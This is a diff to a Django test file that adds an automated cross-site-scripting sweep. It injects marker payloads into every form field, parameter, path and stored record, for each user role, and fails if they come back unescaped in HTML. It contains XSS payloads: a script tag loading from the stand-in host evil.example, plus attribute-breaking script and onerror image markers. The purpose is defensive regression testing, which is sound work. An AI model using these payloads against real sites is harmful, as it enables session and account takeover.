@@ -2,11 +2,44 @@
 
 The "outside attack" report: an admin who opened
 `/models/downloads/action/?repo_id=<script src=…></script>` got a `text/html` 400 with the repo id
-pasted as is, and the script it loaded made another user superuser. The first test replays it;
-the walk below looks for the same mistake everywhere.
+pasted as is, and the script it loaded made another user superuser. The first tests replay it;
+the walk below looks for the same mistake everywhere, as every role.
+
+The walk. A marker is a script tag and an image with a handler, each naming a short token that
+says where the marker was sent; a test fails if either tag appears raw in a text/html body. The
+names a marker is sent under are found, not listed, so a new field or parameter is walked
+without anyone adding it: the fields of every Form class loaded (`base_fields`), the names the
+project's views read from `request.GET` / `POST` / `FILES` in their source, and the names of the
+inputs and links of the pages themselves. For every URL pattern (with sample arguments, with a
+marker in each path parameter that takes text, and with the stored objects' own arguments):
+
+1. the page as the role sees it (its forms and names are learnt);
+2. the marker in every name at once, by GET and POST, with and without `HX-Request`;
+3. the marker in each name the view's own module reads, alone (a view may answer differently
+   when the other names are missing);
+4. every field of every form the pages showed, submitted with the marker, the other fields
+   keeping the page's values, so that what a form stores is shown back by the next step;
+5. every page again: objects stored with markers (by the forms, and by the `stored` fixture:
+   profile, conversation, messages, API key, download, a user's email) are shown escaped.
 """
 
+import itertools
+import re
+import sys
+from html.parser import HTMLParser
+from pathlib import Path
+from urllib.parse import parse_qsl, urlencode, urlsplit
+
 import pytest
+from django import forms
+from django.conf import settings
+from django.contrib import admin
+from django.test import Client
+from django.urls import NoReverseMatch, Resolver404, resolve, reverse
+
+from accounts import access
+from tests.servers.helpers import TINY_REPO, install_model
+from tests.support.url_walk import all_urls, urls_with_text
 
 ATTACK_SCRIPT = '<script src="https://evil.example/x.js"></script>'
 
@@ -29,3 +62,399 @@ def test_every_refusal_of_the_download_action_is_the_escaped_fragment(member_cli
     assert response.status_code == 400
     assert response["Content-Type"].startswith("text/html")
     assert 'class="download-action"' in response.content.decode()
+
+
+# --- what the walk sends and looks for ----------------------------------------------------------
+
+ROOT = Path(__file__).resolve().parents[2]
+PROJECT_APPS = ("accounts", "models_catalog", "servers", "config")
+# The tags raw, whatever became of the rest (a message may quote the text with repr()).
+RAW_MARKER = re.compile(r"<script>alert\(/?(\w+)?|<img src=x onerror=alert\(/?(\w+)?")
+REQUEST_READS = [
+    re.compile(r"""request\.(?:GET|POST|FILES)(?:\.(?:get|getlist|pop)\(|\[)\s*["']([^"']+)["']"""),
+    re.compile(r"""["']([^"']+)["']\s+(?:not\s+)?in\s+request\.(?:GET|POST|FILES)\b"""),
+]
+ROLES = ["anonymous", "pending", "disabled", "member", "admin"]
+
+
+def marker(token: str) -> str:
+    """Breaks out of a quoted attribute and opens two tags that run script, naming `token`
+    (in a regex literal: no quote inside, which a message could escape)."""
+    return f"""\"'><script>alert(/{token}/)</script><img src=x onerror=alert(/{token}/)>"""
+
+
+def path_marker(token: str) -> str:
+    """The same without a slash, for path parameters."""
+    return f"""\"'><img src=x onerror=alert({token})>"""
+
+
+def form_field_names() -> set[str]:
+    """The fields of every Form class loaded: ours, allauth's, the Django admin's."""
+    seen: set[type] = set()
+    todo: list[type] = [forms.BaseForm]
+    while todo:
+        for sub in todo.pop().__subclasses__():
+            if sub not in seen:
+                seen.add(sub)
+                todo.append(sub)
+    return {name for cls in seen for name in getattr(cls, "base_fields", {})}
+
+
+def names_read_in_source() -> dict[str, set[str]]:
+    """Per module of the project: the names its code reads from request.GET / POST / FILES."""
+    found: dict[str, set[str]] = {}
+    for app in PROJECT_APPS:
+        for path in (ROOT / app).rglob("*.py"):
+            if "migrations" in path.parts:
+                continue
+            module = ".".join(path.relative_to(ROOT).with_suffix("").parts)
+            text = path.read_text()
+            found[module] = {name for pattern in REQUEST_READS for name in pattern.findall(text)}
+    return found
+
+
+SOURCE_NAMES = names_read_in_source()
+
+
+def _match(path: str):
+    try:
+        return resolve(urlsplit(path).path)
+    except Resolver404:
+        return None
+
+
+def names_for_view(path: str) -> set[str] | None:
+    """What the view of `path` reads: the names its module reads, and its module's forms'
+    (None for a view that is not the project's: allauth's and the admin's get their forms)."""
+    match = _match(path)
+    module_name = getattr(match.func, "view_class", match.func).__module__ if match else ""
+    if module_name not in SOURCE_NAMES:
+        return None
+    module = sys.modules[module_name]
+    names = set(SOURCE_NAMES[module_name])
+    for value in vars(module).values():
+        if isinstance(value, type) and issubclass(value, forms.BaseForm):
+            names |= set(value.base_fields)
+    return names
+
+
+def reaches(role: str, path: str) -> bool:
+    """Whether the access rules let `role` reach the view of `path` (else the middleware
+    answers for it, whatever the request carries)."""
+    match = _match(path)
+    if match is None:  # the 404 page
+        return role in ("member", "admin")
+    if match.view_name in access.PUBLIC_URL_NAMES:
+        return True
+    if role == "anonymous" or access.is_api_path(path):
+        return False
+    if match.view_name in access.STATUS_URL_NAMES:
+        return True
+    if role in ("pending", "disabled"):
+        return False
+    return role == "admin" or not access.is_staff_only(match.func, match.namespace)
+
+
+class PageForms(HTMLParser):
+    """The forms of a page (action, method, fields with the page's values) and every name a
+    request from it can carry (inputs anywhere, query parameters of its links)."""
+
+    def __init__(self, page_path: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.page_path = page_path
+        self.forms: list[dict] = []
+        self.names: set[str] = set()
+        self.link_names: dict[str, set[str]] = {}
+        self._form: dict | None = None
+        self._select: str | None = None
+        self._options: list[tuple[str, bool]] = []
+        self._textarea: str | None = None
+        self._text = ""
+
+    def handle_starttag(self, tag, attrs):
+        a = {key: value or "" for key, value in attrs}
+        for attr in ("href", "action", "hx-get", "hx-post", "src"):
+            if a.get(attr, "").startswith("/") and "?" in a[attr]:
+                target = urlsplit(a[attr])
+                names = {name for name, _ in parse_qsl(target.query, keep_blank_values=True)}
+                self.link_names.setdefault(target.path, set()).update(names)
+                self.names |= names
+        if tag == "form":
+            action = a.get("hx-post") or a.get("action") or a.get("hx-get") or self.page_path
+            method = "post" if "hx-post" in a else (a.get("method") or "get").lower()
+            htmx = any(key in a for key in ("hx-post", "hx-get", "hx-boost"))
+            self._form = {"action": action, "method": method, "fields": [], "htmx": htmx}
+            self.forms.append(self._form)
+        elif tag == "option" and self._select is not None:
+            self._options.append((a.get("value", ""), "selected" in a))
+        name = a.get("name")
+        if not name or tag not in ("input", "select", "textarea", "button"):
+            return
+        self.names.add(name)
+        if tag == "select":
+            self._select, self._options = name, []
+        elif tag == "textarea":
+            self._textarea, self._text = name, ""
+        elif self._form is not None:
+            kind = a.get("type", "text" if tag == "input" else "submit").lower()
+            if kind in ("checkbox", "radio") and "checked" not in a:
+                return
+            if kind in ("image", "reset", "file"):
+                return
+            if kind == "submit" and any(field == name for field, _ in self._form["fields"]):
+                return  # the first of several buttons of one name
+            self._form["fields"].append((name, a.get("value", "")))
+
+    def handle_data(self, data):
+        if self._textarea is not None:
+            self._text += data
+
+    def handle_endtag(self, tag):
+        if tag == "select" and self._select is not None:
+            chosen = [v for v, selected in self._options if selected] or [
+                v for v, _ in self._options[:1]
+            ]
+            if self._form is not None:
+                self._form["fields"].extend((self._select, v) for v in chosen)
+            self._select = None
+        elif tag == "textarea" and self._textarea is not None:
+            if self._form is not None:
+                self._form["fields"].append((self._textarea, self._text))
+            self._textarea = None
+        elif tag == "form":
+            self._form = None
+
+
+class Walker:
+    """Requests as one role; keeps what it learns from the pages and what it finds."""
+
+    def __init__(self, role: str, user=None, known: dict[str, str] | None = None) -> None:
+        self.role = role
+        self.user = user
+        self.client = Client()
+        if user is not None:
+            self.client.force_login(user)
+        self.tokens: dict[str, str] = dict(known or {})  # token -> where its marker was put
+        self.findings: dict[tuple[str, str], str] = {}
+        self.names: set[str] = set()
+        self.link_names: dict[str, set[str]] = {}
+        self.forms: dict[tuple, dict] = {}
+        self.requests = 0
+
+    def token(self, where: str) -> str:
+        for token, known in self.tokens.items():
+            if known == where:
+                return token
+        token = f"x{len(self.tokens)}"
+        self.tokens[token] = where
+        return token
+
+    def marked(self, names) -> dict[str, str]:
+        return {name: marker(self.token(f"parameter {name!r}")) for name in sorted(names)}
+
+    def send(self, method: str, path: str, data=None, htmx: bool = False):
+        """GET or POST `path` with `data` (a dict, or a list of pairs for a form's fields); a
+        POST carries a dict in its query string too, since views read request.GET on POSTs."""
+        headers = {"HX-Request": "true"} if htmx else {}
+        if isinstance(data, list):
+            pairs = data
+            data = {}
+            for name, value in pairs:
+                data.setdefault(name, []).append(value)
+        elif method == "post" and data:
+            path = f"{path}{'&' if '?' in path else '?'}{urlencode(data)}"
+        response = getattr(self.client, method)(path, data or {}, headers=headers)
+        self.requests += 1
+        shown = path if len(path) < 150 else f"{path[:150]}…"
+        self.check(response, f"{method.upper()} {shown}{' (HTMX)' if htmx else ''}")
+        if self.user is not None:
+            cookie = response.cookies.get(settings.SESSION_COOKIE_NAME)
+            if cookie is not None and not cookie.value:  # a logout form: sign in again
+                self.client.force_login(self.user)
+        return response
+
+    @staticmethod
+    def html(response) -> str | None:
+        """The body of a text/html answer (None for any other type)."""
+        is_html = "text/html" in response.get("Content-Type", "")
+        if response.streaming:
+            content = b"".join(response.streaming_content) if is_html else b""
+            response.close()
+        else:
+            content = response.content
+        return content.decode(errors="replace") if is_html else None
+
+    def check(self, response, request: str) -> None:
+        html = self.html(response)
+        for match in RAW_MARKER.finditer(html or ""):
+            where = self.tokens.get(match[1] or match[2], "an unknown place")
+            around = html[max(0, match.start() - 100) : match.end() + 10].replace("\n", " ")
+            self.findings.setdefault(
+                (request.split("?")[0], where),
+                f"{self.role}: {request} -> {response.status_code} pastes the marker of "
+                f"{where} raw: …{around}…",
+            )
+
+    def learn(self, path: str, response) -> None:
+        """The names and forms of a page this role was shown."""
+        if response.status_code != 200 or "text/html" not in response.get("Content-Type", ""):
+            return
+        page = PageForms(urlsplit(path).path)
+        page.feed(response.content.decode(errors="replace"))
+        page.close()
+        self.names |= page.names
+        for target, names in page.link_names.items():
+            self.link_names.setdefault(target, set()).update(names)
+        for form in page.forms:
+            key = (form["action"], form["method"], tuple(name for name, _ in form["fields"]))
+            self.forms.setdefault(key, form)
+
+
+def object_paths(arguments: dict[str, list]) -> list[str]:
+    """Every named URL whose arguments `arguments` offers values for, with each combination;
+    and the Django admin's pages of every object of every registered model."""
+    paths = []
+    for url in all_urls():
+        if not url.params or not url.name or url.name.startswith("admin:"):
+            continue
+        choices = [arguments.get(param, []) for param in url.params]
+        for values in itertools.product(*choices):
+            try:
+                paths.append(reverse(url.name, kwargs=dict(zip(url.params, values, strict=True))))
+            except NoReverseMatch:
+                continue
+    for model in admin.site._registry:
+        prefix = f"admin:{model._meta.app_label}_{model._meta.model_name}"
+        for obj in model._default_manager.all()[:3]:
+            paths += [reverse(f"{prefix}_{view}", args=[obj.pk]) for view in ("change", "history")]
+    return paths
+
+
+def _destructive_last(form: dict) -> bool:
+    return any(word in form["action"] for word in ("delete", "revoke", "logout", "remove"))
+
+
+def walk(walker: Walker, targets: list[str]) -> None:
+    for path in targets:  # 1. the pages as this role sees them
+        for htmx in (False, True):
+            walker.learn(path, walker.send("get", path, htmx=htmx))
+    everything = form_field_names() | set().union(*SOURCE_NAMES.values()) | walker.names
+    every_name = walker.marked(everything)
+    for path in targets:  # 2. the marker in every name at once
+        for method, htmx in itertools.product(("get", "post"), (False, True)):
+            walker.send(method, path, every_name, htmx)
+    for path in targets:  # 3. each name the view reads, alone
+        if reaches(walker.role, path) and (names := names_for_view(path)) is not None:
+            names |= walker.link_names.get(urlsplit(path).path, set())
+            for name, method in itertools.product(sorted(names), ("get", "post")):
+                walker.send(method, path, walker.marked([name]))
+    for form in sorted(walker.forms.values(), key=_destructive_last):  # 4. every form field
+        for index, (name, _) in enumerate(form["fields"]):
+            fields = list(form["fields"])
+            where = f"field {name!r} of the form to {form['action']}"
+            fields[index] = (name, marker(walker.token(where)))
+            for htmx in (False, True) if form["htmx"] else (False,):
+                if form["method"] == "post":
+                    walker.send("post", form["action"], fields, htmx)
+                else:
+                    query = urlencode(fields)
+                    walker.send("get", f"{form['action'].split('?')[0]}?{query}", htmx=htmx)
+    for path in targets:  # 5. what was stored, shown back
+        for htmx in (False, True):
+            walker.send("get", path, htmx=htmx)
+
+
+@pytest.fixture
+def stored(member, make_user, hub, settings, tmp_path):
+    """Objects of `member`, with markers in their text, and a model in the Hugging Face cache;
+    pages that ask the Hub ask the local fake one. Returns {token: what holds its marker}."""
+    from accounts.api_keys import create_api_key
+    from models_catalog.models import Download, Host
+    from servers.chat import render_markdown
+    from servers.models import Conversation, Message, ServerProfile, State, UsageRecord
+
+    settings.HF_ENDPOINT = hub.url
+    settings.HF_HUB_CACHE = tmp_path / "hf-cache"
+    settings.HF_TOKEN = ""
+    install_model(settings.HF_HUB_CACHE, TINY_REPO)
+    host = Host.local()
+    where = {
+        "sa": "a profile's name",
+        "sb": "a profile's description",
+        "sc": "a profile's system prompt",
+        "sd": "a failed server's reason",
+        "se": "a failed server's error",
+        "sf": "a failed server's log tail",
+        "sg": "a conversation's title",
+        "sh": "a user's message",
+        "si": "a model's answer",
+        "sj": "a model's reasoning",
+        "sk": "an API key's name",
+        "sl": "a download's error",
+        "sm": "a download's state reason",
+        "sn": "a user's email",
+        "so": "a usage record's profile name",
+    }
+    m = {token: marker(token) for token in where}
+    profile = ServerProfile.objects.create(
+        name=m["sa"], slug="owned", model_id=TINY_REPO, host=host, port=18123, owner=member,
+        description=m["sb"], system_prompt=m["sc"],
+    )  # fmt: skip
+    type(profile.get_instance()).objects.filter(profile=profile).update(
+        state=State.FAILED, reason=m["sd"], last_error=m["se"], log_tail=m["sf"]
+    )
+    conversation = Conversation.objects.create(user=member, profile=profile, title=m["sg"])
+    Message.objects.create(conversation=conversation, role="user", content=m["sh"])
+    Message.objects.create(
+        conversation=conversation, role="assistant", content=m["si"],
+        html=render_markdown(m["si"]), reasoning=m["sj"],
+    )  # fmt: skip
+    create_api_key(member, m["sk"])
+    Download.objects.create(
+        repo_id=TINY_REPO, revision="a" * 40, host=host, requested_by=member,
+        state=Download.State.FAILED, error=m["sl"], state_reason=m["sm"],
+    )  # fmt: skip
+    make_user(f"{m['sn']}@example.com", status="pending")
+    UsageRecord.objects.create(
+        user=member, profile=profile, profile_name=m["so"], host=host, source="chat",
+        endpoint="chat/completions", status="ok",
+    )  # fmt: skip
+    return where
+
+
+def _user_for(role: str, member, admin_member, make_user):
+    if role == "member":
+        return member
+    if role == "admin":
+        return admin_member
+    if role in ("pending", "disabled"):
+        return make_user(f"{role}-walker@example.com", status=role)
+    return None
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("role", ROLES)
+def test_no_text_html_answer_pastes_a_marker_unescaped(
+    role, stored, member, admin_member, make_user
+):
+    from models_catalog.models import Download
+    from servers.models import Conversation, ServerProfile
+
+    walker = Walker(role, _user_for(role, member, admin_member, make_user), known=stored)
+    in_path = walker.token("a path parameter")
+    pks = {obj.pk for model in (Download, Conversation) for obj in model.objects.all()}
+    pks |= {member.pk, admin_member.pk}
+    targets = [url.path for url in all_urls()]
+    targets += [url.path for url in urls_with_text(path_marker(in_path))]
+    targets.append(f"/no-such-page/{path_marker(in_path)}/")
+    if role in ("member", "admin"):
+        targets += object_paths(
+            {"pk": sorted(pks), "slug": [p.slug for p in ServerProfile.objects.all()],
+             "repo_id": [TINY_REPO, "test-org/tiny-llama"]}
+        )  # fmt: skip
+
+    walk(walker, targets)
+
+    assert walker.requests > 1000 and len(walker.forms) >= (10 if role == "admin" else 1)
+    found = sorted(walker.findings.values())
+    assert found == [], f"{len(found)} raw markers:\n" + "\n\n".join(found)
